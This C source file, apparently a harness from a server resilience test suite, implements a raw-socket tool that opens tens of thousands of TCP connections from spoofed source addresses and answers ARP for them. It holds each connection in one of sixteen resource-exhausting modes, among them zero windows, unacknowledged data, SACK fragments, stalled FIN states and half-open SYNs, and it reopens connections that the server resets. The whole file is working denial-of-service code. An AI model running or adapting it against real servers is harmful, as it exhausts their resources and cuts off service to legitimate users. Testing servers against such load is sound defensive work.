/*
 * Very many TCP clients that mean ill, without a socket of the kernel: each holds a connection in the way of its mode.
 *
 *   hostile_clients DEVICE SERVER PORT MODE FIRST_SOURCE [connections=60000] [sources=2] [rate=100000] [open-rate=20000]
 *
 * Opens the connections, says `up N` when they are there (or no more come about), and goes on until its input is closed:
 * a connection that the server resets is opened again. Lines on its input: `look` makes it print a JSON object of what it
 * has done, `reset` makes it reset all connections and open no more. What each mode does is told at `modes`.
 */
#include "packet_socket.h"

enum {
  FIRST_PORT = 1024,
  PORTS = 64000,
  RECEIVE_BATCH = 64,
  /* Headers are all that is looked at. */
  LOOK_BYTES = 128,
  SWEEP_PARTS = 20,
  SWEEP_MS = 1000 / SWEEP_PARTS,
  SYN_TRIES = 3,
  /* A client that was not let in waits as long, in sweeps (seconds). */
  COME_BACK_SWEEPS = 2,
  STALL_MS = 2500,
  /* Where a server makes room by ending older connections, all are never there at once. */
  UP_AT_LAST_MS = 12000,
  CRUMB_DISTANCE = 4096,
  FAR_OCTETS = 4,
  /* What a full queue on the way has lost is sent again so often. */
  WALKS = 3,
  WINDOW_FIELD = 14,
};

enum state { UNBORN, OPENING, OPEN, GONE };

struct client {
  uint32_t iss, snd_nxt, snd_una, rcv_nxt, edge;
  uint8_t state, tries, shift, is_queued, owes_ack, moved, far_octets, walks, waits;
};

static struct client *clients;
static uint32_t *ring, ring_head, ring_tail, ring_size;
static uint32_t connections, sources, first_source, begun, open_now;
static uint64_t opened, resets_seen, ends_seen, received, data_octets;
static uint16_t server_port;
static int is_resetting;

struct mode {
  const char *name;
  /* What the SYN and every ACK offer, and the window scale of the SYN. */
  uint16_t window;
  uint8_t shift;
  /* Sends one more frame of the mode; 0 when there is none to send now. Null: it sends nothing of its own. */
  int (*work)(uint32_t index);
  /* Whether a probe, or data, is answered; after a second, where `is_slow`. */
  uint8_t answers, is_slow, is_half_open;
  /* Whether what comes is acknowledged, the server's FIN too, and whether an octet is sent each second. */
  uint8_t reads, trickles;
};
static const struct mode *mode;

static void send_segment(uint32_t index, uint32_t seq, uint8_t flags, uint32_t payload_bytes) {
  struct client *client = &clients[index];
  uint8_t *frame = next_frame(), *tcp = frame + IP_AT + IP_BYTES;
  uint32_t option_bytes = flags & SYN ? 12 : 0;
  address_frame(frame, ETHERTYPE_IP);
  store32(frame + IP_AT + IP_SOURCE, first_source + index % sources);
  store32(frame + IP_AT + IP_TO, server_address);
  store16(tcp, (uint16_t)(FIRST_PORT + index / sources));
  store16(tcp + 2, server_port);
  store32(tcp + 4, seq);
  store32(tcp + 8, flags & ACK ? client->rcv_nxt : 0);
  tcp[12] = (uint8_t)((TCP_BYTES + option_bytes) << 2);
  tcp[13] = flags;
  store16(tcp + WINDOW_FIELD, mode->window);
  store16(tcp + 18, 0);
  /* MSS 1460, SACK permitted, window scale. */
  if (option_bytes > 0) {
    memcpy(tcp + TCP_BYTES, "\2\4\x05\xb4\4\2\1\3\3\0\1\1", 12);
    tcp[TCP_BYTES + 9] = mode->shift;
  }
  memset(tcp + TCP_BYTES + option_bytes, 'x', payload_bytes);
  queue_frame(finish_frame(frame, TCP_BYTES + option_bytes + payload_bytes, 0, 0));
}

static uint32_t room(const struct client *client, uint32_t from) {
  int32_t octets = (int32_t)(client->edge - from);
  return octets > 0 ? (uint32_t)octets : 0;
}

/* One octet at the far end of the window, and again where the window has grown. */
static int send_far_octet(uint32_t index) {
  struct client *client = &clients[index];
  uint32_t at = client->edge - 1;
  if (client->far_octets == FAR_OCTETS || (int32_t)(at - client->snd_nxt) <= 0) return 0;
  send_segment(index, at, ACK | PSH, 1);
  client->snd_nxt = at + 1;
  client->far_octets++;
  return 1;
}

/* All of the window but its first octet. */
static int send_behind_hole(uint32_t index) {
  struct client *client = &clients[index];
  if (client->snd_nxt == client->iss + 1) client->snd_nxt++;
  uint32_t octets = room(client, client->snd_nxt);
  if (octets == 0) return 0;
  if (octets > MSS) octets = MSS;
  send_segment(index, client->snd_nxt, ACK, octets);
  client->snd_nxt += octets;
  return 1;
}

/* Single octets, far from each other. */
static int send_crumb(uint32_t index) {
  struct client *client = &clients[index];
  uint32_t at = client->snd_nxt == client->iss + 1 ? client->iss + 1 + CRUMB_DISTANCE : client->snd_nxt + CRUMB_DISTANCE - 1;
  if (room(client, at) == 0) return 0;
  send_segment(index, at, ACK, 1);
  client->snd_nxt = at + 1;
  return 1;
}

static int send_in_order(uint32_t index, uint32_t most) {
  struct client *client = &clients[index];
  uint32_t octets = room(client, client->snd_nxt);
  if (octets == 0) return 0;
  if (octets > most) octets = most;
  send_segment(index, client->snd_nxt, ACK | PSH, octets);
  client->snd_nxt += octets;
  return 1;
}

static int send_full(uint32_t index) { return send_in_order(index, MSS); }
static int send_octet(uint32_t index) { return send_in_order(index, 1); }

/* The client's FIN, once. */
static int send_fin(uint32_t index) {
  struct client *client = &clients[index];
  if (client->snd_nxt != client->iss + 1) return 0;
  send_segment(index, client->snd_nxt++, FIN | ACK, 0);
  return 1;
}

static const struct mode modes[] = {
  /* The window stays shut; probes are answered, as RFC 9293 §3.8.6.1 wants it, so that the connection may live for ever. */
  {.name = "zero-window", .answers = 1},
  /* Reads one octet a second. */
  {.name = "one-octet", .window = 1, .answers = 1, .is_slow = 1},
  /* Takes a gigabyte, and acknowledges none of it. */
  {.name = "unacked", .window = 65535, .shift = 14},
  {.name = "far-octet", .window = 65535, .shift = 7, .work = send_far_octet},
  {.name = "hole", .window = 65535, .shift = 7, .work = send_behind_hole},
  {.name = "sack-crumbs", .window = 65535, .shift = 7, .work = send_crumb},
  /* Sends, and reads nothing of what is sent back. */
  {.name = "unread-echo", .work = send_full, .answers = 1},
  /* Fills what the server's application does not read. */
  {.name = "filled", .window = 65535, .shift = 7, .work = send_full},
  /* The server closes first, and its FIN is never acknowledged. */
  {.name = "fin-never-acked", .window = 65535, .shift = 7},
  /* The server closes first, its FIN is acknowledged, and the client's never comes. */
  {.name = "fin-wait-2", .window = 65535, .shift = 7, .answers = 1, .reads = 1},
  /* The client closes, and the server's FIN in answer is never acknowledged. */
  {.name = "last-ack", .window = 65535, .shift = 7, .work = send_fin},
  /* Never idle for long: an octet a second, and its echo is read. */
  {.name = "trickle", .window = 65535, .shift = 7, .answers = 1, .reads = 1, .trickles = 1},
  {.name = "silent", .window = 65535, .shift = 7},
  {.name = "half-open", .window = 65535, .shift = 7, .is_half_open = 1},
  {.name = "resets", .window = 65535, .shift = 7, .work = send_behind_hole},
  /* Data in order, an octet a segment. */
  {.name = "tiny", .window = 65535, .shift = 7, .work = send_octet, .answers = 1},
};

static void enqueue(uint32_t index) {
  struct client *client = &clients[index];
  if (mode->work == NULL || client->is_queued || client->state != OPEN || is_resetting) return;
  client->is_queued = 1;
  ring[ring_head] = index;
  ring_head = ring_head + 1 == ring_size ? 0 : ring_head + 1;
}

/* A frame of the mode from whoever's turn it is; 0 when nobody has one. */
static int work_on(void) {
  while (ring_tail != ring_head) {
    uint32_t index = ring[ring_tail];
    ring_tail = ring_tail + 1 == ring_size ? 0 : ring_tail + 1;
    clients[index].is_queued = 0;
    if (clients[index].state != OPEN || is_resetting || !mode->work(index)) continue;
    enqueue(index);
    return 1;
  }
  return 0;
}

static void begin(uint32_t index) {
  struct client *client = &clients[index];
  client->iss = random32();
  client->snd_nxt = client->snd_una = client->edge = client->iss + 1;
  client->state = OPENING;
  client->tries = 1;
  client->owes_ack = client->moved = client->far_octets = client->walks = client->waits = 0;
  send_segment(index, client->iss, SYN, 0);
}

static void leave(uint32_t index) {
  if (clients[index].state == OPEN) open_now--;
  clients[index].state = GONE;
  clients[index].waits = COME_BACK_SWEEPS;
}

static uint8_t offered_shift(const uint8_t *tcp, uint32_t header_bytes) {
  for (uint32_t at = TCP_BYTES; at + 2 < header_bytes;) {
    if (tcp[at] == 0) break;
    if (tcp[at] == 1) {
      at++;
      continue;
    }
    if (tcp[at] == 3) return tcp[at + 2];
    if (tcp[at + 1] < 2) break;
    at += tcp[at + 1];
  }
  return 0;
}

static void take_edge(uint32_t index, uint32_t ack, uint32_t window) {
  struct client *client = &clients[index];
  if ((int32_t)(ack - client->snd_una) > 0) {
    client->snd_una = ack;
    client->moved = 1;
    /* What was to be sent again has arrived after all. */
    if ((int32_t)(ack - client->snd_nxt) > 0) client->snd_nxt = ack;
  }
  if ((int32_t)(ack + window - client->edge) > 0) client->edge = ack + window;
  enqueue(index);
}

static void take_segment(const uint8_t *ip, const uint8_t *tcp) {
  uint32_t source = load32(ip + IP_TO) - first_source;
  uint32_t index = (uint32_t)(load16(tcp + 2) - FIRST_PORT) * sources + source;
  if (source >= sources || index >= begun || load16(tcp) != server_port) return;
  struct client *client = &clients[index];
  uint32_t header_bytes = (tcp[12] >> 4) * 4u, seq = load32(tcp + 4), ack = load32(tcp + 8);
  int32_t octets = (int32_t)(load16(ip + 2) - (uint32_t)(tcp - ip) - header_bytes);
  received++;
  if (tcp[13] & RST) {
    /* The answer to a late segment of a connection before this one is no end of this one. */
    if (client->state == OPENING && ack != client->iss + 1) return;
    resets_seen++;
    leave(index);
    return;
  }
  if ((tcp[13] & (SYN | ACK)) == (SYN | ACK)) {
    if (client->state == GONE || client->state == UNBORN || ack != client->iss + 1 || mode->is_half_open) return;
    if (client->state == OPENING) {
      client->state = OPEN;
      client->rcv_nxt = seq + 1;
      client->shift = offered_shift(tcp, header_bytes);
      opened++;
      open_now++;
      client->edge = ack + load16(tcp + WINDOW_FIELD);
    }
    send_segment(index, client->iss + 1, ACK, 0);
    enqueue(index);
    return;
  }
  if (client->state != OPEN) return;
  int is_end = (tcp[13] & FIN) != 0;
  if (is_end) ends_seen++;
  if (octets > 0) data_octets += (uint32_t)octets;
  int is_next = (octets > 0 || is_end) && seq == client->rcv_nxt;
  if (mode->reads && is_next) client->rcv_nxt += (uint32_t)octets + (uint32_t)is_end;
  take_edge(index, ack, (uint32_t)load16(tcp + WINDOW_FIELD) << client->shift);
  if (!mode->answers || (octets <= 0 && !is_end && seq == client->rcv_nxt)) return;
  if (mode->is_slow) client->owes_ack = 1;
  else send_segment(index, client->snd_nxt, ACK, 0);
}

static void take_frame(const uint8_t *frame, uint32_t length) {
  const uint8_t *ip = frame + IP_AT;
  if (load16(frame + ETHERTYPE_AT) == ETHERTYPE_ARP && length >= ETHERNET_BYTES + ARP_BYTES) {
    uint32_t asked = load32(ip + 24);
    if (asked - first_source >= sources) return;
    int bytes = arp_reply(frame, length, asked, ATTACKER_MAC, next_frame());
    if (bytes > 0) queue_frame(bytes);
    return;
  }
  if (load16(frame + ETHERTYPE_AT) != ETHERTYPE_IP || length < ETHERNET_BYTES + IP_BYTES + TCP_BYTES) return;
  if (ip[9] != PROTOCOL_TCP || load32(ip + IP_SOURCE) != server_address) return;
  const uint8_t *tcp = ip + (ip[0] & 15) * 4u;
  if (tcp + TCP_BYTES <= frame + length) take_segment(ip, tcp);
}

static int take_what_is_there(void) {
  static uint8_t looks[RECEIVE_BATCH][LOOK_BYTES];
  static struct iovec parts[RECEIVE_BATCH];
  static struct mmsghdr incoming[RECEIVE_BATCH];
  for (int i = 0; i < RECEIVE_BATCH; i++) {
    parts[i] = (struct iovec){.iov_base = looks[i], .iov_len = LOOK_BYTES};
    incoming[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
  }
  int count = recvmmsg(packet_fd, incoming, RECEIVE_BATCH, MSG_DONTWAIT, NULL);
  for (int i = 0; i < count; i++) take_frame(looks[i], incoming[i].msg_len);
  return count > 0 ? count : 0;
}

/* What is due once a second: SYNs again, clients that come back, slow readers, lost data in order. */
static void sweep(uint32_t index) {
  struct client *client = &clients[index];
  if (client->state == OPENING) {
    if (client->tries++ < SYN_TRIES) send_segment(index, client->iss, SYN, 0);
    else leave(index);
  } else if (client->state == GONE) {
    if (client->waits > 0) client->waits--;
    else if (!is_resetting) begin(index);
  } else if (client->state == OPEN) {
    if (client->owes_ack) {
      client->owes_ack = 0;
      client->rcv_nxt++;
      send_segment(index, client->snd_nxt, ACK, 0);
    }
    int goes_on = mode->trickles || mode->work == send_full || mode->work == send_octet;
    if (goes_on && !client->moved && client->snd_una != client->snd_nxt) client->snd_nxt = client->snd_una;
    client->moved = 0;
    if (mode->trickles) send_octet(index);
    int leaves_holes = mode->work == send_behind_hole || mode->work == send_crumb;
    if (leaves_holes && !client->is_queued && client->walks < WALKS) {
      client->walks++;
      client->snd_nxt = client->iss + 1;
    }
    enqueue(index);
  }
}

static void reset_all(void) {
  is_resetting = 1;
  for (uint32_t i = 0; i < begun; i++) {
    if (clients[i].state != OPEN) continue;
    send_segment(i, clients[i].snd_una, RST | ACK, 0);
    leave(i);
    if (i % BATCH == 0) take_what_is_there();
  }
  flush_frames();
}

static void tell(void) {
  tell_frames();
  printf(",\"opened\":%llu,\"open\":%u,\"resets\":%llu,\"fins\":%llu,\"received\":%llu,\"octets\":%llu}\n",
         (unsigned long long)opened, open_now, (unsigned long long)resets_seen, (unsigned long long)ends_seen,
         (unsigned long long)received, (unsigned long long)data_octets);
  fflush(stdout);
}

static void flood(double rate, double open_rate) {
  struct pace pace, opening;
  uint64_t swept = now_ns(), progress = swept, at_last = swept + UP_AT_LAST_MS * 1000000ull;
  uint32_t sweep_at = 0, best = 0;
  int is_up = 0;
  start_pace(&pace, rate);
  start_pace(&opening, open_rate);
  for (;;) {
    int order = look_for_order();
    if (order == ORDER_END) return;
    if (order == ORDER_RESET) reset_all();
    if (order == ORDER_LOOK) tell();
    int taken = 0;
    for (int turns = 0; turns < 8; turns++) {
      int count = take_what_is_there();
      taken += count;
      if (count < RECEIVE_BATCH) break;
    }
    uint32_t allowed = begun < connections ? take_allowance(&opening, BATCH) : 0;
    for (; allowed > 0 && begun < connections; allowed--) begin(begun++);
    uint32_t worked = 0;
    for (allowed = take_allowance(&pace, 2 * BATCH); worked < allowed && work_on();) worked++;
    uint64_t now = now_ns();
    while (now - swept >= SWEEP_MS * 1000000ull) {
      swept += SWEEP_MS * 1000000ull;
      uint32_t part = begun / SWEEP_PARTS + 1;
      for (uint32_t i = 0; i < part && begun > 0; i++) {
        sweep(sweep_at);
        if (++sweep_at >= begun) sweep_at = 0;
      }
    }
    flush_frames();
    if (opened > best) best = (uint32_t)opened, progress = now;
    int is_all = mode->is_half_open ? begun == connections : open_now == connections;
    if (!is_up && (is_all || now > at_last || now - progress > STALL_MS * 1000000ull)) {
      printf("up %u\n", open_now);
      fflush(stdout);
      is_up = 1;
    }
    if (taken == 0 && worked == 0) pause_ns(PAUSE_NS);
  }
}

int main(int argc, char **argv) {
  if (argc < 6) fail("usage", "hostile_clients DEVICE SERVER PORT MODE FIRST_SOURCE [NAME=NUMBER ...]");
  for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++)
    if (strcmp(modes[i].name, argv[4]) == 0) mode = &modes[i];
  if (mode == NULL) fail(argv[4], "no such mode");
  server_address = address_option(argv[2]);
  server_port = (uint16_t)atoi(argv[3]);
  first_source = address_option(argv[5]);
  connections = (uint32_t)number_option(argc, argv, "connections", 60000);
  sources = (uint32_t)number_option(argc, argv, "sources", 2);
  if (sources == 0 || (connections - 1) / sources >= PORTS) fail("sources", "too few for so many connections");
  ring_size = connections + 1;
  clients = calloc(connections, sizeof *clients);
  ring = calloc(ring_size, sizeof *ring);
  if (clients == NULL || ring == NULL) fail("memory", strerror(errno));
  open_packet_socket(argv[1]);
  find_server(first_source);
  flood(number_option(argc, argv, "rate", 100000), number_option(argc, argv, "open-rate", 20000));
  return 0;
}
